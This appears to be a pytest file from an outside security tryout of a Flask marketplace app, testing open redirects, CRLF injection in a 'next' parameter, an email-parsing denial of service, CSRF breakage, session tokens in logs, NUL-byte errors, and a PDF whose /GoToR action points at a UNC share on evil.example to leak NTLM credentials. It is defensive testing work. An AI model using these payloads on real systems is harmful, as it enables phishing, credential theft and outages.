"""Tryout of issue 18 (security), from the attacker's side: defects found by an outside tester.

Each test names what an attacker or an honest user does and what should happen; each failed
on the commit the tryout ran against (5d35fae).
"""
from __future__ import annotations

import logging
import re
import time
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from marketplace.cli import create_app
from marketplace.accounts.models import User
from marketplace.accounts.services import WeakPassword, check_password_strength
from marketplace.core.extensions import db
from marketplace.media.pdf import UnsafePDF, check_pdf
from tests.conftest import PASSWORD, IsolatedClient
from tests.factories import UserFactory

STRONG = "Tulpar-kymyz-saryarka-9"


def _stays_on_site(location: str | None) -> bool:
    """What a browser does with the Location: `http:///evil.example` is http://evil.example/."""
    if not location:
        return True
    if location.startswith("/") and not location.startswith(("//", "/\\")):
        return True
    return urlsplit(location).netloc == "localhost" and location.startswith(("http://localhost", "https://localhost"))


# --- Open redirect: a scheme without slashes --------------------------------------------

@pytest.mark.parametrize("scheme", ["http", "https"])
def test_a_signed_in_user_is_not_sent_off_site_by_a_next_without_slashes(client, login, ctx, scheme):
    UserFactory(email="victim@example.test")
    login("victim@example.test")
    # The site's own scheme, then no slashes: urljoin reads it as a path on this host.
    response = client.get("/login", query_string={"next": f"{scheme}:evil.example/phish"},
                          base_url=f"{scheme}://localhost")
    assert response.status_code == 302
    # Werkzeug writes `http:///evil.example/phish`; Chromium then opens http://evil.example/phish.
    assert _stays_on_site(response.headers["Location"]), response.headers["Location"]


def test_the_login_form_does_not_send_the_user_off_site_either(client, ctx):
    UserFactory(email="victim@example.test")
    response = client.post("/login", data={"email": "victim@example.test", "password": PASSWORD,
                                           "next": "http:evil.example/phish"})
    assert response.status_code == 302
    assert _stays_on_site(response.headers["Location"]), response.headers["Location"]


# --- A newline in `next` is a 500 -------------------------------------------------------

def test_a_next_with_a_newline_is_ignored_not_a_500(client, login, ctx):
    UserFactory(email="victim@example.test")
    # A crafted link /login?next=/%0d%0aX: the honest user logs in through it.
    response = client.post("/login", data={"email": "victim@example.test", "password": PASSWORD,
                                           "next": "/\r\nX-Evil: 1"})
    assert response.status_code == 302, response.status_code
    assert "\n" not in response.headers["Location"]
    signed_in = client.get("/login", query_string={"next": "/\r\nX-Evil: 1"})
    assert signed_in.status_code == 302, signed_in.status_code


# --- Unbounded email parsing before the length check (a worker held for 30 s) -------------

@pytest.mark.parametrize("path", ["/register", "/password/forgot"])
def test_an_overlong_email_is_refused_by_its_length_before_it_is_parsed(client, monkeypatch, path):
    import email_validator

    parsed = []
    real = email_validator.validate_email

    def spy(value, *args, **kwargs):
        parsed.append(len(value))
        return real(value, *args, **kwargs)

    monkeypatch.setattr(email_validator, "validate_email", spy)  # wtforms imports the module per call
    # email-validator 2.3 splits the address one character at a time (quadratic): 300 KB
    # held a gunicorn worker about 7 s, 1 MB until gunicorn killed it at 30 s.
    email = "a" * 100_000 + "@example.com"
    started = time.perf_counter()
    response = client.post(path, data={"name": "Bot", "email": email, "password": STRONG, "confirm": STRONG,
                                       "account_type": "customer", "producer_kind": "farmer"})
    assert response.status_code in (200, 400)
    assert not [n for n in parsed if n > 254], f"an email of {max(parsed)} characters was parsed"
    assert time.perf_counter() - started < 1


# --- Token pages cannot submit their own form over HTTPS ---------------------------------

@pytest.fixture
def https_app(app, database_url, tmp_path):
    """The suite's app with CSRF on, served over HTTPS (request.is_secure), as in production."""
    served = create_app({"BASE_CONFIG": "testing", "SQLALCHEMY_DATABASE_URI": database_url,
                         "MEDIA_ROOT": str(tmp_path), "WTF_CSRF_ENABLED": True})
    served.test_client_class = IsolatedClient
    return served


@pytest.mark.parametrize("path, data", [
    ("/verify", {"token": "some.token.value"}),
    ("/password/reset", {"token": "some.token.value", "password": STRONG, "confirm": STRONG}),
])
def test_a_token_page_can_submit_its_own_form_over_https(https_app, path, data):
    browser = https_app.test_client()
    page = browser.get(path, base_url="https://localhost")
    assert page.headers["Referrer-Policy"] == "no-referrer"
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page.get_data(as_text=True)).group(1)
    # The page said no-referrer, so the browser sends its form without a Referer header;
    # Flask-WTF's WTF_CSRF_SSL_STRICT then answers 400 "The referrer header is missing." and
    # nobody can confirm an email or reset a password in production.
    response = browser.post(path, data={"csrf_token": token, **data}, base_url="https://localhost")
    assert response.status_code != 400, response.get_data(as_text=True)[:300]


# --- The request log line carries the session token as its user_id -----------------------

def test_the_request_log_names_the_user_by_id_not_by_session_token(client, login, ctx, caplog):
    user = UserFactory(email="logged@example.test")
    login("logged@example.test")
    db.session.refresh(user)
    with caplog.at_level(logging.INFO, logger="aimak.request"):
        client.get("/account")
    [line] = [r for r in caplog.records if r.name == "aimak.request" and getattr(r, "path", "") == "/account"]
    assert line.user_id != user.session_token  # the value Flask-Login keeps in the session and remember cookie
    assert str(line.user_id) == str(user.id)


# --- NUL bytes ------------------------------------------------------------------------------

def test_a_nul_byte_in_a_name_is_refused_not_stored(client, ctx):
    # PostgreSQL refuses NUL in text: there this registration (and a NUL in the login email)
    # is a 500, and the 500's log line carries the insert's parameters: the password hash
    # and the session token of the new account.
    response = client.post("/register", data={"name": "Ай\x00гуль", "email": "nul@example.com", "password": STRONG,
                                               "confirm": STRONG, "account_type": "customer",
                                               "producer_kind": "farmer"})
    assert response.status_code != 500
    stored = db.session.scalar(select(User).where(User.email == "nul@example.com"))
    assert stored is None or "\x00" not in stored.name


def test_a_nul_byte_in_the_login_email_is_not_a_500(client, ctx):
    response = client.post("/login", data={"email": "cust\x00omer@example.com", "password": "whatever"})
    assert response.status_code in (200, 400)


# --- PDFs: an action that opens another (remote) file ---------------------------------------

def _pdf_with_open_action(action: bytes) -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def test_a_certificate_that_opens_a_remote_file_is_refused(ctx):
    # /GoToR to a UNC path: opening the certificate in a Windows reader sends the verifier's
    # NTLM credentials to the attacker's server. media/pdf.py says actions that "open other
    # files" are refused, but only /GoToE is listed.
    data = _pdf_with_open_action(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")
    with pytest.raises(UnsafePDF):
        check_pdf(data)


# --- Passwords Russian speakers actually use ----------------------------------------------

@pytest.mark.parametrize("password", ["йцукенгшщз", "фывапролдж", "ялюблюмаму"])
def test_common_russian_passwords_are_refused(ctx, password):
    # accounts/services.py: "our own list adds what it does not know (Cyrillic keyboard runs,
    # local words)"; the list has two Cyrillic entries, and zxcvbn scores Cyrillic as random.
    with pytest.raises(WeakPassword):
        check_password_strength(password, "aigul@example.com", "Айгуль Сапарова")
